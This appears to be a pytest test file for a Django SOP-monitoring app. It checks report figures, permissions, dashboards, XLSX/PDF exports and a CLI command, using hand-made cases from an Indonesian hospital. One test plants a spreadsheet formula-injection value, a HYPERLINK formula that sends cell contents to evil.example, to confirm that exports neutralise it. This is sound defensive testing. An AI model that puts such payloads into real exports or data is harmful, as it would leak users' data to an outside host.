"""The SOP monitoring report, its downloads and command, and the leaders' dashboard.

The figures are checked on hand-made cases walked through the real actions at known
times: five RSPON cases in the first week of March 2025, each step taking a set number
of minutes, some over the time standard, one sent back by the directors.
"""

import datetime as dt
import io
import json
import os
import re
import statistics
from zoneinfo import ZoneInfo

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from pypdf import PdfReader

from siaran.cases import actions
from siaran.cases.models import Case
from siaran.core import sops
from siaran.orgs import actions as org_actions
from siaran.orgs.models import Organization, Person
from siaran.publishing.demo import posted_by_hand
from siaran.publishing.models import ChannelAccount
from siaran.reports import selectors
from siaran.reports.pdf import render_pdf
from siaran.reports.selectors import Period
from siaran.reports.xlsx import render_xlsx
from tests.test_commands import siaran

JAKARTA = ZoneInfo("Asia/Jakarta")
MARCH = Period(dt.date(2025, 3, 1), dt.date(2025, 3, 31), "Asia/Jakarta")
QUERY = "sop=rspon-medsos&from=2025-03-01&to=2025-03-31"
PASSWORD = "siaran-demo-2026"

# Minutes each step took in cases A to E, started Monday 3 to Friday 7 March 2025 at 07:30.
# (person, outcome, minutes) per visit; "humas2" is a second person in the PR team lane.
# Late: request D (20 > 15), edit C and D (70, 80 > 60), directors D (12 > 10), upload E.
PLANS = {
    "A": [
        ("unit-kerja", "done", 5),
        ("ipkp", "done", 60),
        ("subkoor-humas", "done", 3),
        ("tim-humas", "done", 30),
        ("subkoor-humas", "done", 10),
        ("koordinator-umum", "done", 10),
        ("direksi", "tidak", 5),  # sent back to edit
        ("tim-humas", "done", 20),
        ("subkoor-humas", "done", 10),
        ("koordinator-umum", "done", 10),
        ("direksi", "ya", 5),
        ("tim-humas", "publish", 30),
    ],
    "B": [
        ("unit-kerja", "done", 10),
        ("ipkp", "done", 90),
        ("subkoor-humas", "done", 4),
        ("tim-humas", "done", 50),
        ("subkoor-humas", "done", 10),
        ("koordinator-umum", "done", 10),
        ("direksi", "ya", 5),
        ("tim-humas", "publish", 60),
    ],
    "C": [
        ("unit-kerja", "done", 12),
        ("ipkp", "done", 120),
        ("subkoor-humas", "done", 5),
        ("humas2", "done", 70),
        ("subkoor-humas", "done", 10),
        ("koordinator-umum", "done", 10),
        ("direksi", "ya", 8),
        ("humas2", "publish", 90),
    ],
    "D": [
        ("unit-kerja", "done", 20),
        ("ipkp", "done", 30),
        ("subkoor-humas", "done", 6),
        ("humas2", "done", 80),
        ("subkoor-humas", "done", 10),
        ("koordinator-umum", "done", 10),
        ("direksi", "ya", 12),
        ("humas2", "publish", 100),
    ],
    "E": [
        ("unit-kerja", "done", 15),  # exactly at the due time: within the standard
        ("ipkp", "done", 45),
        ("subkoor-humas", "done", 7),
        ("tim-humas", "done", 40),
        ("subkoor-humas", "done", 10),
        ("koordinator-umum", "done", 10),
        ("direksi", "ya", 9),
        ("tim-humas", "publish", 130),
    ],
}
CHANNELS = {
    "A": ["instagram"],
    "B": ["instagram", "facebook"],
    "C": ["x"],
    "D": ["youtube", "x"],
    "E": ["facebook"],
}
# Minutes per step over the five cases, in the SOP's order.
MINUTES = {
    "request": [5, 10, 12, 20, 15],
    "produce": [60, 90, 120, 30, 45],
    "receive-letter": [3, 4, 5, 6, 7],
    "edit": [30, 20, 50, 70, 80, 40],
    "verify": [10] * 6,
    "submit-to-directors": [10] * 6,
    "director-review": [5, 5, 5, 8, 12, 9],
    "upload": [30, 60, 90, 100, 130],
}
LATE = {"request": 1, "edit": 2, "director-review": 1, "upload": 1}


def percentile_inc(values, q):
    """Excel's PERCENTILE.INC, by the standard library, as the report must compute it."""
    if q == 0.5:
        return statistics.median(values)
    return statistics.quantiles(values, n=10, method="inclusive")[round(q * 10) - 1]


def walk(people, title, start, plan, channels, sop_id="rspon-medsos"):
    case = actions.case_start(
        person=people["unit-kerja"], sop_id=sop_id, title=title, channels=channels, now=start
    )
    moment = start
    for who, outcome, minutes in plan:
        moment += dt.timedelta(minutes=minutes)
        note = "Perbaiki logo." if outcome == "tidak" else ""
        case = actions.case_decide(
            person=people[who], case_id=case.pk, outcome=outcome, note=note, now=moment
        )
        if case.status == "publishing":  # every channel recorded as posted, at once
            case = posted_by_hand(case, people[who], now=moment)
    return case


def rspon_people(demo):
    people = {lane.id: demo[f"rspon-{lane.id}"] for lane in sops.find("rspon-medsos").lanes}
    humas2 = org_actions.person_ensure(
        organization=people["tim-humas"].organization,
        username="rspon-humas-2",
        name="Putri Humas Kedua",
        password=PASSWORD,
    )
    org_actions.lane_assign(person=humas2, sop_id="rspon-medsos", lane_id="tim-humas")
    people["humas2"] = humas2
    return people


@pytest.fixture
def march(demo):
    """The five hand-made RSPON cases of the first week of March 2025."""
    people = rspon_people(demo)
    # Every channel posted by hand, as `walk` records them: with no account for it, a
    # channel's rules do not stop a review of content that has no poster.
    ChannelAccount.objects.filter(organization=people["tim-humas"].organization).delete()
    for day, (name, plan) in enumerate(PLANS.items(), 3):
        start = dt.datetime(2025, 3, day, 7, 30, tzinfo=JAKARTA)
        walk(people, f"Kasus {name}", start, plan, CHANNELS[name])
    return people


def rspon():
    return Organization.objects.get(slug="rspon")


# -- the figures -------------------------------------------------------------------------


@pytest.mark.django_db
def test_every_step_has_its_exact_figures(march):
    report = selectors.monitoring(rspon(), sops.find("rspon-medsos"), MARCH)
    steps = {s.step_id: s for s in report.steps}
    assert [s.step_id for s in report.steps] == [s.id for s in sops.find("rspon-medsos").steps]
    for step_id, minutes in MINUTES.items():
        step = steps[step_id]
        assert step.visits == len(minutes), step_id
        assert step.late == LATE.get(step_id, 0), step_id
        assert step.seconds == sum(minutes) * 60, step_id
        assert step.median == percentile_inc(minutes, 0.5) * 60, step_id
        assert step.p90 == pytest.approx(percentile_inc(minutes, 0.9) * 60), step_id
    # The figures spelled out, so that the definition cannot drift with the library's.
    assert steps["edit"].median == 45 * 60 and steps["edit"].p90 == 75 * 60
    assert steps["request"].median == 12 * 60 and steps["request"].p90 == 18 * 60
    assert steps["director-review"].median == 6.5 * 60
    assert steps["director-review"].p90 == 10.5 * 60
    assert steps["request"].share == 0.8 and steps["request"].runs_well is True
    assert steps["edit"].share == pytest.approx(4 / 6) and steps["edit"].runs_well is False
    assert (steps["edit"].cases, steps["edit"].returned) == (5, 1)  # case A redid it
    assert steps["director-review"].sent_back == 1
    assert steps["edit"].seconds_over == (10 + 20) * 60
    assert (report.visits, report.late, report.reworks) == (44, 5, 1)
    assert report.started == 5 and report.ended == {"published": 5}


@pytest.mark.django_db
def test_lanes_and_people(march):
    report = selectors.monitoring(rspon(), sops.find("rspon-medsos"), MARCH)
    lanes = {lane.lane_id: lane for lane in report.lanes}
    assert (lanes["tim-humas"].visits, lanes["tim-humas"].late, lanes["tim-humas"].people) == (
        11,
        3,
        2,
    )
    assert (lanes["subkoor-humas"].visits, lanes["subkoor-humas"].late) == (11, 0)
    people = {p.name: p for p in report.people}
    andi = people[march["tim-humas"].name]
    putri = people["Putri Humas Kedua"]
    assert (andi.visits, andi.late) == (7, 1)
    assert (putri.visits, putri.late) == (4, 2)
    assert people[march["direksi"].name].sent_back == 1
    edit = next(s for s in report.steps if s.step_id == "edit")
    # The slowest at editing: Putri (median of 70 and 80), then Andi (of 20, 30, 40, 50).
    assert [(p.name, p.median) for p in edit.slowest] == [
        ("Putri Humas Kedua", 75 * 60),
        (march["tim-humas"].name, 35 * 60),
    ]


@pytest.mark.django_db
def test_posts_per_channel_per_month(march):
    period = Period(dt.date(2025, 2, 1), dt.date(2025, 3, 31), "Asia/Jakarta")
    channels = selectors.posts_per_channel(rspon(), sops.find("rspon-medsos"), period)
    assert channels.months == [dt.date(2025, 2, 1), dt.date(2025, 3, 1)]
    assert channels.counts == {
        "instagram": [0, 2],
        "facebook": [0, 2],
        "x": [0, 2],
        "youtube": [0, 1],
    }


@pytest.mark.django_db
def test_a_step_counts_in_the_period_it_finished_on_the_institutions_clock(demo):
    people = rspon_people(demo)
    start = dt.datetime(2025, 3, 31, 23, 0, tzinfo=JAKARTA)  # 16:00 UTC
    plan = [("unit-kerja", "done", 30), ("ipkp", "done", 60)]  # 23:30, then 00:30 in April
    walk(people, "Lewat tengah malam", start, plan, ["instagram"])
    sop = sops.find("rspon-medsos")
    march = {s.step_id: s.visits for s in selectors.monitoring(rspon(), sop, MARCH).steps}
    april = Period(dt.date(2025, 4, 1), dt.date(2025, 4, 30), "Asia/Jakarta")
    april = {s.step_id: s.visits for s in selectors.monitoring(rspon(), sop, april).steps}
    assert (march["request"], march["produce"]) == (1, 0)
    assert (april["request"], april["produce"]) == (0, 1)


@pytest.mark.django_db
def test_another_institutions_cases_are_never_counted(march):
    other = org_actions.organization_ensure(
        slug="rs-lain", name="Rumah Sakit Lain", sop_ids=("rspon-medsos",)
    )
    people = {}
    for lane in sops.find("rspon-medsos").lanes:
        people[lane.id] = org_actions.person_ensure(
            organization=other, username=f"lain-{lane.id}", name=f"Lain {lane.id}", password="x"
        )
        org_actions.lane_assign(person=people[lane.id], sop_id="rspon-medsos", lane_id=lane.id)
    slow = [(who, outcome, 200) for who, outcome, _minutes in PLANS["B"]]
    walk(people, "Kasus lain", dt.datetime(2025, 3, 4, 7, 30, tzinfo=JAKARTA), slow, ["x"])
    sop = sops.find("rspon-medsos")
    ours = selectors.monitoring(rspon(), sop, MARCH)
    assert (ours.visits, ours.late, ours.started) == (44, 5, 5)
    assert ours.channels.counts["x"] == [2]
    assert {p.name for p in ours.people}.isdisjoint({p.name for p in people.values()})
    theirs = selectors.monitoring(other, sop, MARCH)
    assert (theirs.visits, theirs.started) == (8, 1)
    assert theirs.channels.counts["x"] == [1]


@pytest.mark.django_db
def test_who_may_see_the_reports(demo):
    assert selectors.reportable_sops(demo["rspon-direksi"]) == ["rspon-medsos"]
    assert selectors.reportable_sops(demo["rspon-admin"]) == ["rspon-medsos"]
    for lane in ("verifikator", "pengendali-publikasi", "penanggung-jawab", "pengarah"):
        assert selectors.reportable_sops(demo[f"poltekkes-jkt2-{lane}"]) == [
            "poltekkes-jkt2-publikasi"
        ]
    for username in ("rspon-tim-humas", "rspon-unit-kerja", "poltekkes-jkt2-anggota"):
        assert selectors.reportable_sops(demo[username]) == []
    # A Plh. standing in for the directors today may see what they see.
    org_actions.acting_add(
        person=demo["rspon-tim-humas"],
        for_person=demo["rspon-direksi"],
        starts=dt.date.today() - dt.timedelta(days=1),
        ends=dt.date.today() + dt.timedelta(days=1),
    )
    assert selectors.reportable_sops(demo["rspon-tim-humas"]) == ["rspon-medsos"]


@pytest.mark.django_db
def test_the_dashboard(march):
    sop = sops.find("rspon-medsos")
    late_start = dt.datetime(2025, 3, 10, 7, 30, tzinfo=JAKARTA)
    waiting = actions.case_start(
        person=march["unit-kerja"], sop_id=sop.id, title="Menunggu", now=late_start
    )
    now = dt.datetime(2025, 3, 10, 9, 30, tzinfo=JAKARTA)  # request due 07:45: 105 min late
    board = selectors.dashboard(rspon(), sop, now=now)
    in_flight = {step.step_id: (count, late) for step, count, late in board.in_flight}
    assert in_flight["request"] == (1, 1)
    assert [o.case_id for o in board.overdue] == [waiting.pk]
    assert board.overdue[0].late_by == dt.timedelta(minutes=105)
    # Over the last 30 days: editing overran by 30 minutes in all, the open request by
    # 105: the request is the bottleneck.
    assert board.bottleneck_seconds["edit"] == pytest.approx(30 * 60, abs=1)
    assert board.bottleneck_seconds["request"] == pytest.approx((5 + 105) * 60, abs=1)
    assert board.bottleneck.step_id == "request"
    assert board.published.counts == {"instagram": [2], "facebook": [2], "x": [2], "youtube": [1]}


# -- the pages ---------------------------------------------------------------------------


def _login(client, person):
    client.force_login(person.user)
    return client


def _charts(response) -> dict:
    found = re.search(
        r'<script id="report-charts" type="application/json">(.*?)</script>',
        response.content.decode(),
        re.S,
    )
    assert found, "the page carries its charts' numbers"
    return json.loads(found.group(1))


@pytest.mark.django_db
def test_the_report_page_shows_the_figures_and_their_charts(client, march):
    response = _login(client, march["direksi"]).get(f"/reports/monitoring/?{QUERY}")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Laporan monitoring SOP" in page
    assert "vendor/chartjs/chart.umd.min.js" in page and "reports.js" in page
    for canvas in ("chart-compliance", "chart-times", "chart-lanes", "chart-channels"):
        assert f'id="{canvas}"' in page
    assert page.count('<tr data-step="') == 8
    charts = _charts(response)
    within, late = charts["compliance"]["datasets"]
    assert late["data"] == [1, 0, 0, 2, 0, 0, 1, 1]
    assert within["data"] == [4, 5, 5, 4, 6, 6, 5, 4]
    median, p90 = charts["times"]["datasets"]
    assert median["data"] == [12, 60, 5, 45, 10, 10, 6.5, 90]
    assert p90["data"] == [18, 108, 6.6, 75, 10, 10, 10.5, 118]
    assert charts["channels"]["datasets"][0] == {"label": "Instagram", "data": [2]}
    assert "Berjalan dengan baik" in page and "Tidak berjalan dengan baik" in page
    assert f"?{QUERY}" in page.replace("&amp;", "&")  # the downloads cover the same period


@pytest.mark.django_db
def test_reports_are_refused_outside_the_review_lanes_and_the_institution(client, march):
    for username in ("rspon-tim-humas", "rspon-unit-kerja"):
        _login(client, march[username.removeprefix("rspon-")])
        for url in ("/reports/monitoring/", "/reports/monitoring/xlsx/", "/dashboard/"):
            assert client.get(url).status_code == 403, (username, url)
    poltekkes = Person.objects.get(user__username="poltekkes-jkt2-pengarah")
    _login(client, poltekkes)
    assert client.get(f"/reports/monitoring/?{QUERY}").status_code == 403
    assert client.get(f"/reports/monitoring/pdf/?{QUERY}").status_code == 403
    page = client.get("/reports/monitoring/")  # their own SOP, and nothing of RSPON
    assert page.status_code == 200 and "Kasus A" not in page.content.decode()
    client.logout()
    assert client.get("/reports/monitoring/").status_code == 302  # to the login page


@pytest.mark.django_db
def test_a_bad_period_is_explained_and_the_last_30_days_shown(client, march):
    _login(client, march["direksi"])
    for query, message in (
        ("from=2025-02-30", "Tulis tanggal"),
        ("from=2025-03-31&to=2025-03-01", "harus dimulai sebelum"),
        ("from=2020-01-01&to=2025-01-01", "paling lama dua tahun"),
    ):
        response = client.get(f"/reports/monitoring/?{query}")
        assert response.status_code == 200
        assert message in response.content.decode(), query
    download = client.get("/reports/monitoring/xlsx/?from=kemarin")
    assert download.status_code == 302 and "/reports/monitoring/?" in download["Location"]


@pytest.mark.django_db
def test_the_navbar_links_the_reports_for_those_who_may_see_them(client, march):
    _login(client, march["direksi"])
    assert 'href="/reports/monitoring/"' in client.get("/tasks/").content.decode()
    _login(client, march["tim-humas"])
    assert 'href="/reports/monitoring/"' not in client.get("/tasks/").content.decode()
    # Kept in the session: the next page asks the database nothing more for the link.
    with CaptureQueriesContext(connection) as captured:
        client.get("/tasks/")
    seat_queries = [q for q in captured.captured_queries if "orgs_lanemember" in q["sql"]]
    assert len(seat_queries) == 1  # the inbox's own


@pytest.mark.django_db
def test_the_dashboard_page(client, march):
    now = dt.datetime.now(JAKARTA)
    stuck = actions.case_start(
        person=march["unit-kerja"],
        sop_id="rspon-medsos",
        title="Tertahan di permohonan",
        now=now - dt.timedelta(days=5),
    )
    response = _login(client, march["direksi"]).get("/dashboard/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Tertahan di permohonan" in page and f"/cases/{stuck.pk}/" in page
    assert "Langkah hambatan" in page
    charts = _charts(response)
    assert sum(charts["in_flight"]["datasets"][1]["data"]) >= 1  # overdue now
    over = dict(zip(charts["over"]["labels"], charts["over"]["datasets"][0]["data"], strict=True))
    assert over["1"] > 24  # the request step, days past its 15 minutes


# -- the downloads ------------------------------------------------------------------------


def _form_rows(workbook) -> list[tuple]:
    sheet = workbook.worksheets[0]
    return [row for row in sheet.iter_rows(values_only=True) if isinstance(row[0], int)]


@pytest.mark.django_db
def test_the_spreadsheet_download(client, march):
    response = _login(client, march["direksi"]).get(f"/reports/monitoring/xlsx/?{QUERY}")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "monitoring-rspon-medsos-20250301-20250331.xlsx" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[0] == "Formulir monitoring"
    rows = _form_rows(workbook)
    sop = sops.find("rspon-medsos")
    assert [row[0] for row in rows] == list(range(1, 9))  # one row per step
    for row, step in zip(rows, sop.steps, strict=True):
        assert row[1].startswith(step.activity)
    by_step = dict(zip([s.id for s in sop.steps], rows, strict=True))
    assert by_step["request"][2:4] == ("✓", None)  # 80 %: runs well
    assert by_step["edit"][2:4] == (None, "✓")  # 67 %: does not
    assert "Tim Humas" in by_step["edit"][5]  # a suggestion names the lane
    text = "\n".join(
        str(v) for row in workbook.worksheets[0].iter_rows(values_only=True) for v in row
    )
    assert march["direksi"].name in text  # the one who downloaded it signs
    statistics_sheet = workbook.worksheets[1]
    stats = [r for r in statistics_sheet.iter_rows(values_only=True) if isinstance(r[0], int)]
    edit = stats[3]
    assert edit[4:7] == (6, 5, 1)  # finished, cases, repeats
    assert edit[7] == dt.timedelta(minutes=45) and edit[8] == dt.timedelta(minutes=75)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


@pytest.mark.django_db
def test_the_monitoring_workbook_shows_a_name_that_looks_like_a_formula_as_text(march):
    person = march["humas2"]
    person.name = FORMULA
    person.save(update_fields=["name"])
    report = selectors.monitoring(rspon(), sops.find("rspon-medsos"), MARCH)
    workbook = load_workbook(io.BytesIO(render_xlsx(report, "id")))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert FORMULA in {cell.value for cell in cells}


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)


@pytest.mark.django_db
def test_the_pdf_download(client, march):
    response = _login(client, march["direksi"]).get(f"/reports/monitoring/pdf/?{QUERY}")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert "FORMULIR MONITORING PELAKSANAAN SOP" in text
    for step in sops.find("rspon-medsos").steps:
        assert " ".join(step.activity.split()) in text, step.id
    for label in ("Berjalan dengan baik", "Tidak berjalan dengan baik", "Catatan hasil penilaian"):
        assert label in text
    assert "Tindakan yang harus diambil" in text and "OT.02.02/XXXIX/8803/2022" in text


@pytest.mark.django_db
def test_the_exports_in_english(march):
    report = selectors.monitoring(rspon(), sops.find("rspon-medsos"), MARCH)
    text = pdf_text(render_pdf(report, "en"))
    assert "SOP IMPLEMENTATION MONITORING FORM" in text and "Runs well" in text
    assert "Verify the edited content" in text  # the SOP's English activity
    workbook = load_workbook(io.BytesIO(render_xlsx(report, "en")))
    assert workbook.sheetnames[0] == "Monitoring form"


# -- the command --------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_command_needs_an_institution_when_several_run_the_sop(march, tmp_path):
    out = tmp_path / "m.xlsx"
    args = ["report", "monitoring", "--sop", "rspon-medsos", "--format", "xlsx", "-o", str(out)]
    call_command(*args, "--from", "2025-03-01", "--to", "2025-03-31", stdout=io.StringIO())
    assert len(_form_rows(load_workbook(out))) == 8
    org_actions.organization_ensure(slug="rs-lain", name="RS Lain", sop_ids=("rspon-medsos",))
    with pytest.raises(CommandError, match="Beberapa instansi.*rs-lain, rspon"):
        call_command(*args, stdout=io.StringIO())
    with pytest.raises(CommandError, match="Tidak ada instansi 'rs-antah'"):
        call_command(*args, "--org", "rs-antah", stdout=io.StringIO())
    call_command(*args, "--org", "rspon", stdout=io.StringIO())


@pytest.fixture(scope="module")
def demo_site(tmp_path_factory):
    """A fresh data folder with the demo, history included, made by the real commands.
    Always SQLite: the command runs in its own process, on its own database."""
    folder = tmp_path_factory.mktemp("report-site")
    env = {"DATABASE_URL": ""}
    for command in (("migrate", "-v0"), ("demo",)):
        result = siaran(*command, env=env, tmp_data=folder)
        assert result.returncode == 0, result.stderr
    return folder


def _report(folder, *args):
    return siaran("report", "monitoring", *args, env={"DATABASE_URL": ""}, tmp_data=folder)


def test_the_command_writes_the_form(demo_site, tmp_path):
    xlsx, pdf = tmp_path / "laporan.xlsx", tmp_path / "laporan.pdf"
    result = _report(demo_site, "--sop", "rspon-medsos", "--format", "xlsx", "-o", str(xlsx))
    assert result.returncode == 0, result.stderr
    assert str(xlsx) in result.stdout
    rows = _form_rows(load_workbook(xlsx))
    assert len(rows) == 8
    # The demo's history: the last 30 days have steps both within and past the standard.
    assert any(row[2] == "✓" for row in rows) and any(row[3] == "✓" for row in rows)
    result = _report(
        demo_site,
        "--sop",
        "poltekkes-jkt2-publikasi",
        "--from",
        "2000-01-01",
        "--to",
        "2001-12-31",
        "--format",
        "PDF",
        "-o",
        str(pdf),
    )
    assert result.returncode == 0, result.stderr
    text = pdf_text(pdf.read_bytes())
    for step in sops.find("poltekkes-jkt2-publikasi").steps:
        assert " ".join(step.activity.split()) in text
    assert "Tidak dilaksanakan dalam periode ini" in text  # nothing happened in 2000


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--sop", "tidak-ada", "--format", "xlsx", "-o", "x.xlsx"], "Tidak ada SOP dengan id"),
        (
            ["--sop", "rspon-medsos", "--from", "2026-02-30", "--format", "pdf", "-o", "x.pdf"],
            "Tulis tanggal",
        ),
        (["--sop", "rspon-medsos", "--format", "docx", "-o", "x.docx"], "--format xlsx"),
        (["--sop", "rspon-medsos", "--format", "pdf"], "-o FILE"),
        (["--format", "pdf", "-o", "x.pdf"], "--sop ID"),
        (["--sop", "rspon-medsos", "--format", "pdf", "-o", "/tidak/ada/x.pdf"], "Tidak dapat"),
    ],
    ids=["sop", "date", "format", "output", "no-sop", "unwritable"],
)
def test_the_command_explains_bad_input(demo_site, tmp_path, args, message):
    result = _report(demo_site, *args)
    assert result.returncode == 1
    assert message in result.stderr
    assert "Traceback" not in result.stderr
    assert not any(tmp_path.iterdir())


# -- the demo's history -------------------------------------------------------------------


@pytest.mark.django_db
def test_the_demo_history_gives_the_report_something_to_say(demo):
    before = Case.objects.count()
    call_command("demo", stdout=open(os.devnull, "w"))  # noqa: SIM115
    added = Case.objects.count() - before
    assert added == 60  # 30 finished cases per institution
    call_command("demo", stdout=open(os.devnull, "w"))  # noqa: SIM115
    assert Case.objects.count() - before == added  # idempotent
    for slug, sop_id in (("rspon", "rspon-medsos"), ("poltekkes-jkt2", "poltekkes-jkt2-publikasi")):
        organization = Organization.objects.get(slug=slug)
        sop = sops.find(sop_id)
        recent = selectors.monitoring(
            organization, sop, Period.last_30_days(organization.time_zone)
        )
        assert recent.visits > 20 and 0 < recent.late < recent.visits  # the default period
        assert any(s.runs_well for s in recent.steps)
        today = recent.period.last
        history = Period(today - dt.timedelta(days=180), today, organization.time_zone)
        report = selectors.monitoring(organization, sop, history)
        assert report.ended == {"published": 31}  # the history, and the demo case published today
        assert report.reworks > 0 and any(s.runs_well is False for s in report.steps)
        assert any(lane.people > 1 for lane in report.lanes)
        assert sum(report.channels.totals.values()) >= 30
